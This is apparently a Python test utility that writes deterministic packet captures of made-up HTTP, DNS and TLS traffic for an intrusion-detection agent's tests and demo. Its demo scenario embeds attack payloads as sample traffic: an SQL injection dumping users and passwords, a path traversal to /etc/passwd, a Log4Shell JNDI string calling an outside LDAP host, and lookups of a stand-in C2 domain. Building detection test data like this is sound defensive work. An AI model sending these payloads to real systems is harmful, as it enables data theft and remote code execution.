#!/usr/bin/env python3
"""Writes small, deterministic captures for Vigil's tests and demo.

Standard library only. Each scenario is a list of TCP sessions and UDP
exchanges between made-up hosts; TCP sessions get a real handshake, segmented
data with correct sequence numbers, ACKs and a FIN close, so the agent's
reassembly and app-layer parsers see what they see on a real link.

Usage:
  mkpcap.py demo OUT.pcap          HTTP/DNS/TLS traffic with a few attacks (for the demo)
  mkpcap.py alerts OUT.pcap N      N HTTP requests, each carrying "vigil-test-<i>" (one alert each)
"""

import random
import struct
import sys
from pcaplib import csum, ip4, pcap_header, pcap_record


class Writer:
    def __init__(self, path, t0=1715693400.0):
        self.f = open(path, "wb")
        self.f.write(pcap_header(262144))
        self.t = t0

    def frame(self, payload, dt=0.0005):
        self.t += dt
        sec = int(self.t)
        usec = int(round((self.t - sec) * 1e6))
        if usec >= 1000000:
            sec, usec = sec + 1, usec - 1000000
        eth = b"\x00\x11\x22\x33\x44\x55" + b"\x66\x77\x88\x99\xaa\xbb" + b"\x08\x00"
        data = eth + payload
        if len(data) < 60:
            data += b"\0" * (60 - len(data))
        self.f.write(pcap_record(sec, usec, data))

    def close(self):
        self.f.close()


def ipv4(src, dst, proto, l4, ident=1, ttl=64):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), ident, 0x4000, ttl, proto, 0, ip4(src), ip4(dst))
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return hdr + l4


def tcp(src, dst, sp, dp, seq, ack, flags, payload=b"", win=64240):
    hdr = struct.pack("!HHIIBBHHH", sp, dp, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags, win, 0, 0)
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload)
    return ipv4(src, dst, 6, hdr[:16] + struct.pack("!H", c) + hdr[18:] + payload)


def udp(src, dst, sp, dp, payload):
    hdr = struct.pack("!HHHH", sp, dp, 8 + len(payload), 0)
    pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 17, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload) or 0xFFFF
    return ipv4(src, dst, 17, hdr[:6] + struct.pack("!H", c) + payload)


FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def tcp_session(w, cli, srv, sp, dp, exchanges, mss=1400):
    """exchanges: list of (request_bytes, response_bytes)."""
    cs, ss = 1000 + sp * 7, 5000 + dp * 13
    w.frame(tcp(cli, srv, sp, dp, cs, 0, SYN))
    w.frame(tcp(srv, cli, dp, sp, ss, cs + 1, SYN | ACK))
    cs += 1
    ss += 1
    w.frame(tcp(cli, srv, sp, dp, cs, ss, ACK))
    for req, resp in exchanges:
        for i in range(0, len(req), mss):
            chunk = req[i:i + mss]
            w.frame(tcp(cli, srv, sp, dp, cs, ss, PSH | ACK, chunk))
            cs += len(chunk)
        w.frame(tcp(srv, cli, dp, sp, ss, cs, ACK))
        for i in range(0, len(resp), mss):
            chunk = resp[i:i + mss]
            w.frame(tcp(srv, cli, dp, sp, ss, cs, PSH | ACK, chunk))
            ss += len(chunk)
        if resp:
            w.frame(tcp(cli, srv, sp, dp, cs, ss, ACK))
    w.frame(tcp(cli, srv, sp, dp, cs, ss, FIN | ACK))
    w.frame(tcp(srv, cli, dp, sp, ss, cs + 1, FIN | ACK))
    w.frame(tcp(cli, srv, sp, dp, cs + 1, ss + 1, ACK))


def dns_query(qid, name, qtype=1):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def dns_answer(qid, name, addr):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + ip4(addr)
    return struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q + struct.pack("!HH", 1, 1) + ans


def http_req(method, uri, host, ua="Mozilla/5.0 (X11; Linux x86_64)", body=b""):
    h = "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n" % (method, uri, host, ua)
    if body:
        h += "Content-Length: %d\r\nContent-Type: text/plain\r\n" % len(body)
    return (h + "\r\n").encode() + body


def http_resp(body=b"<html>ok</html>", status="200 OK"):
    return ("HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n"
            % (status, len(body))).encode() + body


def tls_client_hello(sni):
    name = sni.encode()
    sni_ext = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    alpn = b"\x00\x10\x00\x0b\x00\x09\x08http/1.1"
    exts = sni_ext + alpn
    body = b"\x03\x03" + bytes(range(32)) + b"\x00" + b"\x00\x04\x13\x01\xc0\x2f" + b"\x01\x00"
    body += struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def scenario_demo(w):
    rnd = random.Random(7)
    clients = ["10.20.%d.%d" % (rnd.randrange(4), rnd.randrange(2, 250)) for _ in range(8)]
    web = "198.51.100.20"
    for i, c in enumerate(clients):
        w.frame(udp(c, "10.1.0.53", 40000 + i, 53, dns_query(0x100 + i, "intranet.example.gov.vn")))
        w.frame(udp("10.1.0.53", c, 53, 40000 + i, dns_answer(0x100 + i, "intranet.example.gov.vn", web)))
        tcp_session(w, c, web, 50000 + i, 80, [(http_req("GET", "/index.html?page=%d" % i, "intranet.example.gov.vn"),
                                               http_resp())])
        tcp_session(w, c, "203.0.113.10", 51000 + i, 443, [(tls_client_hello("portal.example.org"), b"")])
    # attacks
    tcp_session(w, "203.0.113.66", web, 61000, 80,
                [(http_req("GET", "/search.php?q=1'+UNION+SELECT+user,pass+FROM+users--", "www.example.gov.vn"),
                  http_resp(status="500 Internal Server Error"))])
    tcp_session(w, "203.0.113.67", web, 61001, 80,
                [(http_req("GET", "/download?file=../../../../etc/passwd", "www.example.gov.vn"), http_resp())])
    tcp_session(w, "203.0.113.68", web, 61002, 80,
                [(http_req("GET", "/", "www.example.gov.vn", ua="${jndi:ldap://203.0.113.68:1389/x}"),
                  http_resp())])
    w.frame(udp(clients[0], "10.1.0.53", 41000, 53, dns_query(0x999, "update.evil-c2.example")))
    tcp_session(w, clients[1], "203.0.113.99", 52000, 443, [(tls_client_hello("cdn.evil-c2.example"), b"")])


def scenario_alerts(w, n):
    for i in range(n):
        c = "10.30.%d.%d" % (i // 250, i % 250 + 1)
        tcp_session(w, c, "198.51.100.30", 20000 + (i % 40000), 80,
                    [(http_req("GET", "/item?id=vigil-test-%d" % i, "test.example"), http_resp())])


def main():
    if len(sys.argv) < 3:
        print(__doc__)
        return 2
    w = Writer(sys.argv[2])
    if sys.argv[1] == "demo":
        scenario_demo(w)
    elif sys.argv[1] == "alerts":
        scenario_alerts(w, int(sys.argv[3]))
    else:
        print(__doc__)
        return 2
    w.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
